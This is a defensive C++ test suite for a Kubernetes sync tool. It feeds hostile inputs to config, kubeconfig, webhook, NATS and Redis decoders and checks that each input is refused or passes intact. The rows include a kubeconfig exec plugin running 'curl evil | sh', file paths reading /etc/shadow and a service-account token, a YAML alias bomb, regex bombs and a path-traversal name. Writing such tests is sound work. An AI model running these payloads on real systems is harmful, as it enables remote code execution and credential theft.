// The bad-input suite: hostile inputs into every decoder of untrusted input, one table.
// Each row runs one input and says what must come out: the error code and a piece of the
// message that names the field or path at fault, or OK when the input is legal but extreme
// (then the row itself checks that nothing was lost). A crash fails the whole binary.
#include <gtest/gtest.h>

#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "clusters.h"  // controller: CheckSecretKubeconfig
#include "kubesync/admission/audit.h"
#include "kubesync/core/base64.h"
#include "kubesync/core/testing/fake_clock.h"
#include "kubesync/kube/config.h"
#include "kubesync/kube/watch.h"
#include "kubesync/plan/parse.h"
#include "kubesync/proto/envelope.h"
#include "kubesync/state/object_state.h"
#include "kubesync/state/redis_client.h"
#include "kubesync/state/testing/redis_server.h"
#include "kubesync/transform/classify.h"
#include "kubesync/transform/clean.h"
#include "kubesync/transform/mark.h"
#include "kubesync/transform/patch.h"

namespace kubesync {
namespace {

using nlohmann::json;

// Shared by the rows that need a server: Redis, started on first use.
class Servers {
 public:
  Result<state::ObjectStateStore*> Store() {
    if (!store_) {
      KS_ASSIGN_OR_RETURN(redis_server_, state::testing::RedisServer::Start());
      state::RedisOptions o;
      o.url = redis_server_->url(0);
      KS_ASSIGN_OR_RETURN(redis_, state::RedisClient::Connect(o));
      store_ = std::make_unique<state::ObjectStateStore>(redis_.get());
    }
    return store_.get();
  }
  state::RedisClient& redis() { return *redis_; }

 private:
  std::unique_ptr<state::testing::RedisServer> redis_server_;
  std::unique_ptr<state::RedisClient> redis_;
  std::unique_ptr<state::ObjectStateStore> store_;
};

struct Row {
  std::string name;
  std::function<Status(Servers&)> run;
  Code want_code;
  std::string want_in_message;  // "" for OK rows
};

std::ostream& operator<<(std::ostream& os, const Row& row) { return os << row.name; }

std::string Repeat(std::string_view s, std::size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (std::size_t i = 0; i < n; ++i) out += s;
  return out;
}

// ---- LiveSynchronization configs ----

constexpr char kLsHeader[] = R"(apiVersion: automation.astronetes.io/v1alpha1
kind: LiveSynchronization
metadata:
  name: ls
  namespace: dr
)";

std::string ObjectsLs(
    const std::string& config_extra,
    const std::string& resources = "      - {group: apps, version: v1, resource: deployments}\n") {
  return std::string(kLsHeader) +
         "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config:\n    sourceName: live\n"
         "    destinationName: standby\n" +
         config_extra + "    replication:\n      resources:\n" + resources;
}

std::function<Status(Servers&)> Config(std::string yaml) {
  return [yaml = std::move(yaml)](Servers&) { return plan::ParseLiveSynchronizationYaml(yaml).status(); };
}

// ---- kubeconfigs and Secrets ----

std::string KubeconfigWith(const std::string& cluster, const std::string& user) {
  return "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters:\n- name: k\n  cluster:\n" + cluster +
         "contexts:\n- name: c\n  context: {cluster: k, user: u}\nusers:\n- name: u\n  user:\n" + user;
}

// As the controller reads a Secret's kubeconfig: parsed, checked, resolved.
std::function<Status(Servers&)> SecretKubeconfig(std::string yaml) {
  return [yaml = std::move(yaml)](Servers&) -> Status {
    KS_ASSIGN_OR_RETURN(kube::Kubeconfig config, kube::Kubeconfig::Parse(yaml));
    KS_RETURN_IF_ERROR(controller::CheckSecretKubeconfig(config));
    return config.ToRestConfig().status();
  };
}

// ---- objects from the source ----

json Deployment(const std::string& name) {
  return {{"apiVersion", "apps/v1"},
          {"kind", "Deployment"},
          {"metadata",
           {{"name", name},
            {"namespace", "team-a"},
            {"uid", "3f8e0c1a-0000-4000-8000-000000000001"},
            {"resourceVersion", "42"},
            {"labels", {{"app", "web"}}}}},
          {"spec", {{"replicas", 3}, {"template", {{"spec", {{"containers", json::array()}}}}}}}};
}

// Text nested `depth` levels: {"a":{"a":...0...}}.
std::string NestedText(std::size_t depth) { return Repeat("{\"a\":", depth) + "0" + std::string(depth, '}'); }

// The object's way through the pipeline, as the processor and the synchronizer take it:
// clean, transform (replicas 0), mark, hash, envelope out and back, and the recorded
// originals restore the cleaned object. Any difference is something lost.
Status ThroughPipeline(const json& object, const plan::Gvr& gvr) {
  if (!transform::Classify(object, gvr).copy()) return FailedPreconditionError("classified as not copied");
  const json cleaned = transform::Clean(object, gvr);
  KS_ASSIGN_OR_RETURN(
      transform::Transformed t,
      transform::ApplyTransformation(cleaned, {{plan::PatchOp::kReplace, "/spec/replicas", 0}}, true));
  json marked = t.object;
  transform::Mark(marked, {"dr", "ls", "uid-1", "42"}, t.originals);
  if (transform::RecordedContentHash(marked) != transform::ContentHash(marked)) {
    return Status(Code::kDataLoss, "the content hash does not match the object");
  }
  proto::Event event;
  event.type = proto::EventType::kModified;
  event.gvr = {gvr.group, gvr.version, gvr.resource};
  event.kind = object.value("kind", "");
  event.namespace_ = object["metadata"].value("namespace", "");
  event.name = object["metadata"].value("name", "");
  event.uid = "uid-1";
  event.resource_version = "42";
  event.live_synchronization_id = "dr.ls";
  event.content_hash = transform::ContentHash(marked);
  event.object_json = marked.dump();
  KS_ASSIGN_OR_RETURN(std::string payload, proto::Encode(event));
  KS_ASSIGN_OR_RETURN(proto::Event decoded, proto::Decode(payload));
  const json received = json::parse(decoded.object_json, nullptr, false);
  if (received != marked)
    return Status(Code::kDataLoss, "the object changed on the way through the envelope");
  json restored = received;
  KS_RETURN_IF_ERROR(transform::RestoreFromAnnotation(restored));
  if (restored["spec"] != cleaned["spec"])
    return Status(Code::kDataLoss, "the originals do not restore the spec");
  return OkStatus();
}

const plan::Gvr kDeployments{"apps", "v1", "deployments"};

// ---- webhook ----

Status Webhook(const std::string& body) {
  testing::FakeClock clock(WallTime(std::chrono::seconds(1'700'000'000)));
  const admission::ReviewReply reply = admission::AnswerReviewBody(body, clock);
  if (reply.http_status != 200) {
    return Status(reply.http_status == 413 ? Code::kResourceExhausted : Code::kInvalidArgument,
                  reply.body.value("message", ""));
  }
  const json& response = reply.body["response"];
  if (response.value("allowed", true)) return OkStatus();
  const int code = response["status"].value("code", 0);
  return Status(code == 413 ? Code::kResourceExhausted : Code::kInvalidArgument,
                response["status"].value("message", ""));
}

std::string Review(const std::string& object_text, const std::string& operation = "CREATE") {
  return R"({"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"u-1",)"
         R"("kind":{"group":"automation.astronetes.io","version":"v1alpha1","kind":"LiveSynchronization"},)"
         R"("operation":")" +
         operation + R"(","userInfo":{"username":"mallory"},"object":)" + object_text +
         R"(,"oldObject":{"metadata":{"name":"ls"}}}})";
}

// ---- NATS payloads ----

proto::Event GoodEvent() {
  proto::Event e;
  e.type = proto::EventType::kAdded;
  e.gvr = {"apps", "v1", "deployments"};
  e.kind = "Deployment";
  e.namespace_ = "team-a";
  e.name = "web";
  e.uid = "uid-1";
  e.resource_version = "42";
  e.live_synchronization_id = "dr.ls";
  e.object_json = Deployment("web").dump();
  return e;
}

std::function<Status(Servers&)> Payload(std::string bytes) {
  return [bytes = std::move(bytes)](Servers&) { return proto::Decode(bytes).status(); };
}

// An envelope whose fields Encode would refuse, made by encoding a good one and editing
// the bytes of one field in place (same length, so the framing stays valid).
std::string EditedEnvelope(const std::string& from, const std::string& to) {
  std::string bytes = *proto::Encode(GoodEvent());
  bytes.replace(bytes.find(from), from.size(), to);
  return bytes;
}

// ---- Redis records ----

constexpr char kId[] = "dr.ls";
constexpr char kKey[] = "apps/deployments/team-a/web";

// Writes a record as someone else (a bug, a person with redis-cli) might have, then asks
// the store about a newer event. A corrupt record must neither crash nor make the event
// look stale forever (it would never be written: lost).
std::function<Status(Servers&)> CorruptRecord(std::vector<std::string> write, bool read_with_get) {
  return [write = std::move(write), read_with_get](Servers& servers) -> Status {
    KS_ASSIGN_OR_RETURN(state::ObjectStateStore * store, servers.Store());
    KS_ASSIGN_OR_RETURN(std::string key, state::ObjectStateStore::RecordKey(kId, kKey));
    KS_RETURN_IF_ERROR(servers.redis().Command({"DEL", key}).status());
    std::vector<std::string> argv = write;
    argv.insert(argv.begin() + 1, key);
    KS_RETURN_IF_ERROR(servers.redis().Command(argv).status());
    if (read_with_get) return store->Get(kId, kKey).status();
    KS_ASSIGN_OR_RETURN(state::CheckResult check, store->Check(kId, kKey, 43, "hash-43"));
    if (check.cas == state::CasResult::kStale) {
      return Status(Code::kDataLoss,
                    "a newer event (rv 43) is stale against the corrupt record: it would never be written");
    }
    return OkStatus();
  };
}

std::vector<Row> Rows() {
  std::vector<Row> rows;
  const auto add = [&](std::string name, std::function<Status(Servers&)> run, Code code, std::string in) {
    rows.push_back({std::move(name), std::move(run), code, std::move(in)});
  };
  const Code kInvalid = Code::kInvalidArgument;

  // Configs.
  add("config_unknown_plugin",
      Config(std::string(kLsHeader) + "spec:\n  plugin: kubernetes-to-bucket\n  config: {}\n"), kInvalid,
      "spec.plugin: unknown plugin \"kubernetes-to-bucket\"");
  add("config_replicas_wrong_type",
      Config(ObjectsLs("    components:\n      processor: {replicas: three}\n")), kInvalid,
      "spec.config.components.processor.replicas: must be an integer (got the string \"three\")");
  add("config_replicas_fork_bomb",
      Config(ObjectsLs("    components:\n      processor: {replicas: 100000}\n")), kInvalid,
      "spec.config.components.processor.replicas: must be at most 16 (got 100000)");
  add("config_concurrent_tasks_huge",
      Config(ObjectsLs("    components:\n      synchronizer: {concurrentTasks: 4294967296}\n")), kInvalid,
      "spec.config.components.synchronizer.concurrentTasks: must be between 1 and 2147483647");
  add("config_concurrent_tasks_capped",
      Config(ObjectsLs("    components:\n      synchronizer: {concurrentTasks: 1000}\n")), kInvalid,
      "spec.config.components.synchronizer.concurrentTasks: must be at most 128 (got 1000)");
  add("config_same_cluster",
      Config(std::string(kLsHeader) +
             "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config:\n    sourceName: live\n"
             "    destinationName: live\n    replication:\n      resources:\n"
             "      - {group: apps, version: v1, resource: deployments}\n"),
      kInvalid, "spec.config.destinationName: is the source cluster \"live\" too");
  add("config_automation_group",
      Config(ObjectsLs("",
                       "      - {group: automation.astronetes.io, version: v1alpha1, resource: taskruns}\n")),
      kInvalid,
      "spec.config.replication.resources[0].group: automation.astronetes.io is kubesync's own API group");
  add("config_bad_regex",
      Config(ObjectsLs("",
                       "      - group: apps\n        version: v1\n        resource: deployments\n"
                       "        filters: {nameSelector: {regex: [\"(unclosed\"]}}\n")),
      kInvalid,
      "spec.config.replication.resources[0].filters.nameSelector.regex[0]: invalid regular expression");
  add("config_regex_repeat_bomb",
      Config(ObjectsLs("",
                       "      - group: apps\n        version: v1\n        resource: deployments\n"
                       "        filters: {nameSelector: {excludeRegex: [\"((a{1000}){1000}){1000}\"]}}\n")),
      kInvalid,
      "spec.config.replication.resources[0].filters.nameSelector.excludeRegex[0]: invalid regular "
      "expression");
  add("config_regex_huge",
      Config(ObjectsLs("",
                       "      - group: apps\n        version: v1\n        resource: deployments\n"
                       "        filters: {nameSelector: {regex: [\"" +
                           Repeat("(a|b|c|d)", 200000) + "\"]}}\n")),
      kInvalid,
      "spec.config.replication.resources[0].filters.nameSelector.regex[0]: invalid regular expression");
  add("config_wrong_type_config",
      Config(std::string(kLsHeader) +
             "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config: everything\n"),
      kInvalid, "spec.config: must be an object");
  add("config_resources_not_a_list",
      Config(std::string(kLsHeader) + "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config:\n"
                                      "    sourceName: live\n    destinationName: standby\n"
                                      "    replication: {resources: deployments}\n"),
      kInvalid, "spec.config.replication.resources: must be a list");
  add("config_deep_yaml", Config(ObjectsLs("    components: " + Repeat("[", 100000) + "\n")), kInvalid,
      "line");
  add("config_deep_yaml_block", Config(ObjectsLs("    components: " + Repeat("- ", 100000) + "x\n")),
      kInvalid, "line");
  add("config_alias_bomb",
      Config(ObjectsLs("    x0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
                       "    x1: &a1 [*a0, *a0, *a0, *a0, *a0, *a0, *a0, *a0, *a0]\n"
                       "    x2: &a2 [*a1, *a1, *a1, *a1, *a1, *a1, *a1, *a1, *a1]\n"
                       "    x3: &a3 [*a2, *a2, *a2, *a2, *a2, *a2, *a2, *a2, *a2]\n"
                       "    x4: &a4 [*a3, *a3, *a3, *a3, *a3, *a3, *a3, *a3, *a3]\n"
                       "    x5: &a5 [*a4, *a4, *a4, *a4, *a4, *a4, *a4, *a4, *a4]\n"
                       "    x6: &a6 [*a5, *a5, *a5, *a5, *a5, *a5, *a5, *a5, *a5]\n"
                       "    x7: &a7 [*a6, *a6, *a6, *a6, *a6, *a6, *a6, *a6, *a6]\n"
                       "    x8: &a8 [*a7, *a7, *a7, *a7, *a7, *a7, *a7, *a7, *a7]\n")),
      kInvalid, "alias");
  {
    std::string many;
    for (int i = 0; i < 20000; ++i) many += "      - {group: apps, version: v1, resource: deployments}\n";
    many += "      - {group: apps, version: v1, resource: Deployment}\n";
    add("config_huge_with_one_bad_entry", Config(ObjectsLs("", many)), kInvalid,
        "spec.config.replication.resources[20000].resource: invalid resource \"Deployment\"");
  }
  add("config_two_livesyncs", Config(ObjectsLs("") + "---\n" + ObjectsLs("")), kInvalid,
      "found 2 LiveSynchronization documents");
  add("config_empty", Config(""), kInvalid, "the input is empty");
  add("config_typo_field",
      Config(std::string(kLsHeader) +
             "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config:\n"
             "    sourceName: live\n    destinationName: standby\n    replicaton: {}\n"),
      kInvalid, "spec.config.replicaton: unknown field (did you mean replication?)");
  add("config_bad_patch_pointer",
      Config(ObjectsLs("",
                       "      - group: apps\n        version: v1\n        resource: deployments\n"
                       "        transformation: {patch: [{op: replace, path: spec/replicas, value: 0}]}\n")),
      kInvalid, "spec.config.replication.resources[0].transformation.patch[0].path: must be a JSON pointer");
  add("config_allow_same_cluster_not_bool",
      Config(
          "apiVersion: automation.astronetes.io/v1alpha1\nkind: LiveSynchronization\nmetadata:\n  name: ls\n"
          "  annotations: {kubesync.io/allow-same-cluster: \"1\"}\nspec:\n"
          "  plugin: kubernetes-objects-to-kubernetes\n  config:\n    sourceName: a\n    destinationName: b\n"
          "    replication: {resources: [{group: apps, version: v1, resource: deployments}]}\n"),
      kInvalid, "metadata.annotations[kubesync.io/allow-same-cluster]: must be \"true\" or \"false\"");
  add("config_invalid_utf8_name",
      Config(ObjectsLs("", "      - {group: apps, version: v1, resource: \"deploy\xff\xfements\"}\n")),
      kInvalid, "spec.config.replication.resources[0].resource: invalid resource");

  // Kubeconfigs and Secrets.
  add("kubeconfig_not_yaml", SecretKubeconfig("clusters: [\n  - {name: k"), kInvalid, "line");
  add("kubeconfig_exec_plugin_in_secret",
      SecretKubeconfig(
          KubeconfigWith("    server: https://127.0.0.1:6443\n",
                         "    exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, "
                         "args: [-c, \"curl evil | sh\"]}\n")),
      kInvalid, "users[u].user.exec: not allowed in a kubeconfig stored in a Secret");
  add("kubeconfig_token_file_in_secret",
      SecretKubeconfig(
          KubeconfigWith("    server: https://127.0.0.1:6443\n",
                         "    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n")),
      kInvalid, "users[u].user.tokenFile: not allowed");
  add("kubeconfig_ca_file_in_secret",
      SecretKubeconfig(
          KubeconfigWith("    server: https://127.0.0.1:6443\n    certificate-authority: /etc/shadow\n",
                         "    token: abc\n")),
      kInvalid, "clusters[k].cluster.certificate-authority: not allowed");
  add("kubeconfig_bad_base64",
      SecretKubeconfig(KubeconfigWith(
          "    server: https://127.0.0.1:6443\n    certificate-authority-data: \"%%%not base64%%%\"\n",
          "    token: abc\n")),
      kInvalid, "certificate-authority-data");
  add("kubeconfig_missing_server",
      SecretKubeconfig(KubeconfigWith("    insecure-skip-tls-verify: true\n", "    token: abc\n")), kInvalid,
      "server");
  add("kubeconfig_missing_context",
      SecretKubeconfig(
          "apiVersion: v1\nkind: Config\ncurrent-context: nowhere\nclusters: []\ncontexts: []\nusers: []\n"),
      Code::kNotFound, "kubeconfig: context \"nowhere\" not found");
  add("kubeconfig_huge_token",
      SecretKubeconfig(KubeconfigWith("    insecure-skip-tls-verify: true\n",
                                      "    token: " + std::string(1 << 20, 't') + "\n")),
      kInvalid, "server");
  add("kubeconfig_deep", SecretKubeconfig("clusters: " + Repeat("[", 100000) + "\n"), kInvalid, "line");
  add("kubeconfig_wrong_shape", SecretKubeconfig("[1, 2, 3]\n"), kInvalid, "kubeconfig");
  add("kubeconfig_clusters_wrong_type", SecretKubeconfig("apiVersion: v1\nkind: Config\nclusters: {a: b}\n"),
      kInvalid, "clusters");

  // Objects from the source.
  add(
      "object_over_1_5_mib",
      [](Servers&) {
        json o = Deployment("big");
        o["spec"]["template"]["metadata"]["annotations"]["blob"] = std::string(1600 << 10, 'x');
        return ThroughPipeline(o, kDeployments);
      },
      Code::kOk, "");
  add(
      "object_nested_to_the_api_server_limit",
      [](Servers&) {
        json o = Deployment("deep");
        o["spec"]["template"]["metadata"]["annotations"] = json::object();
        o["spec"]["extra"] = json::parse(NestedText(9990));
        return ThroughPipeline(o, kDeployments);
      },
      Code::kOk, "");
  add(
      "object_odd_name_with_slash",
      [](Servers&) {
        proto::Event e = GoodEvent();
        e.name = "a/../../b";
        return state::ObjectStateStore::RecordKey(kId, proto::ObjectKey(e)).status();
      },
      kInvalid,
      "state: object key \"apps/deployments/team-a/a/../../b\" is not group/resource/namespace/name");
  add(
      "object_odd_name_long_unicode",
      [](Servers&) { return ThroughPipeline(Deployment(Repeat("\xc3\xa9", 120)), kDeployments); }, Code::kOk,
      "");
  add(
      "object_name_too_long",
      [](Servers&) { return ThroughPipeline(Deployment(std::string(254, 'a')), kDeployments); }, kInvalid,
      "envelope.name: longer than 253 characters");
  // The API server never sends invalid UTF-8 (Go's encoder replaces it); a stand-in that
  // does gets its line refused at the decoder, so no invalid string reaches the pipeline.
  add(
      "object_invalid_utf8_in_strings",
      [](Servers&) {
        std::string line = R"({"type":"MODIFIED","object":)" + Deployment("web").dump() + "}";
        line.replace(line.find("web"), 3,
                     "w\xe9"
                     "b");
        return kube::ParseWatchEvent(line).status();
      },
      kInvalid, "watch event: not valid JSON");
  add(
      "nats_invalid_utf8_in_name",
      [](Servers&) {
        proto::Event e = GoodEvent();
        e.name =
            "we\xff"
            "b";
        auto encoded = proto::Encode(e);
        if (!encoded.ok()) return encoded.status();
        return proto::Decode(*encoded).status();
      },
      kInvalid, "envelope.name");
  add(
      "object_not_an_object",
      [](Servers&) {
        proto::Event e = GoodEvent();
        e.object_json = "[1,2,3]";
        return proto::Encode(e).status();
      },
      kInvalid, "envelope.object_json");
  add(
      "object_transformation_on_missing_path",
      [](Servers&) {
        return transform::ApplyTransformation(Deployment("web"),
                                              {{plan::PatchOp::kReplace, "/spec/nothing/here", 0}}, false)
            .status();
      },
      kInvalid, "/spec/nothing/here");
  add(
      "watch_line_not_json",
      [](Servers&) { return kube::ParseWatchEvent(R"({"type":"ADDED","object":{"metadata")").status(); },
      kInvalid, "watch event");
  // Deeper than the API server's own decoder allows (10000): refused at the door, before any
  // recursive walk (clean, hash, print) could overflow a component's stack.
  add(
      "watch_line_deep",
      [](Servers&) {
        return kube::ParseWatchEvent(
                   R"({"type":"ADDED","object":{"metadata":{"name":"a","namespace":"b"},"spec":)" +
                   NestedText(200000) + "}}")
            .status();
      },
      kInvalid, "object.spec.a.a");

  // Webhook requests.
  add(
      "webhook_deep_spec",
      [](Servers&) { return Webhook(Review(R"({"spec":)" + NestedText(300000) + "}", "UPDATE")); }, kInvalid,
      "request.object.spec.a.a");
  add(
      "webhook_oversized",
      [](Servers&) { return Webhook(Review(R"({"spec":{"blob":")" + std::string(9 << 20, 'x') + R"("}})")); },
      Code::kResourceExhausted, "larger than the limit of 8388608 bytes");
  add(
      "webhook_not_json", [](Servers&) { return Webhook("{\"request\": {\"uid\": "); }, kInvalid,
      "the request body is not a JSON AdmissionReview");
  add(
      "webhook_no_uid", [](Servers&) { return Webhook(R"({"request":{"operation":"CREATE"}})"); }, kInvalid,
      "the AdmissionReview has no request.uid");
  add(
      "webhook_invalid_utf8_username",
      [](Servers&) {
        std::string body = Review(R"({"metadata":{"name":"ls"}})");
        body.replace(body.find("mallory"), 7, "mal\xffory");
        return Webhook(body);
      },
      kInvalid, "the request body is not a JSON AdmissionReview");

  // NATS payloads.
  add("nats_empty_payload", Payload(""), kInvalid, "envelope.");
  add("nats_garbage", Payload("\xff\xff\xff\xff\x0f garbage that is not protobuf"), kInvalid, "envelope");
  add("nats_json_instead_of_protobuf", Payload(Deployment("web").dump()), kInvalid, "envelope");
  add(
      "nats_truncated",
      [](Servers&) {
        const std::string bytes = *proto::Encode(GoodEvent());
        return proto::Decode(bytes.substr(0, bytes.size() / 2)).status();
      },
      kInvalid, "envelope");
  add("nats_bad_resource_version", Payload(EditedEnvelope("42", "4x")), kInvalid,
      "envelope.resource_version");
  add("nats_bad_live_sync_id", Payload(EditedEnvelope("dr.ls", "dr:ls")), kInvalid,
      "envelope.live_synchronization_id");

  // Redis records.
  add("redis_rv_not_a_number_get",
      CorruptRecord({"HSET", "rv", "abc", "uid", "u", "hash", "h", "deleted", "0"}, true), Code::kDataLoss,
      "field rv is \"abc\", not a number");
  add("redis_rv_not_a_number_check",
      CorruptRecord({"HSET", "rv", "abc", "uid", "u", "hash", "h", "deleted", "0"}, false), Code::kOk, "");
  add("redis_rv_absurdly_large_check",
      CorruptRecord({"HSET", "rv", "999999999999999999999999999999", "hash", "h", "deleted", "0"}, false),
      Code::kOk, "");
  add("redis_updated_at_garbage", CorruptRecord({"HSET", "rv", "5", "updatedAt", "yesterday"}, true),
      Code::kDataLoss, "field updatedAt is \"yesterday\"");
  add("redis_wrong_type_get", CorruptRecord({"SET", "not a hash"}, true), Code::kInternal, "WRONGTYPE");
  add("redis_wrong_type_check", CorruptRecord({"SET", "not a hash"}, false), Code::kOk, "");
  add("redis_deleted_flag_garbage_check",
      CorruptRecord({"HSET", "rv", "5", "hash", "h", "deleted", "maybe"}, false), Code::kOk, "");
  return rows;
}

class BadInputTest : public ::testing::TestWithParam<Row> {
 protected:
  static void TearDownTestSuite() { servers_.reset(); }
  static Servers& servers() {
    if (!servers_) servers_ = std::make_unique<Servers>();
    return *servers_;
  }
  static inline std::unique_ptr<Servers> servers_;
};

TEST_P(BadInputTest, ClearErrorNoCrashNothingLost) {
  const Row& row = GetParam();
  const Status status = row.run(servers());
  EXPECT_EQ(status.code(), row.want_code) << status.ToString().substr(0, 2000);
  if (row.want_code != Code::kOk) {
    EXPECT_NE(status.message().find(row.want_in_message), std::string::npos)
        << "want \"" << row.want_in_message << "\" in: " << status.message().substr(0, 2000);
  }
}

INSTANTIATE_TEST_SUITE_P(Hostile, BadInputTest, ::testing::ValuesIn(Rows()),
                         [](const ::testing::TestParamInfo<Row>& info) { return info.param.name; });

TEST(BadInputSuiteTest, HasAtLeastFortyRows) { EXPECT_GE(Rows().size(), 40u); }

}  // namespace
}  // namespace kubesync
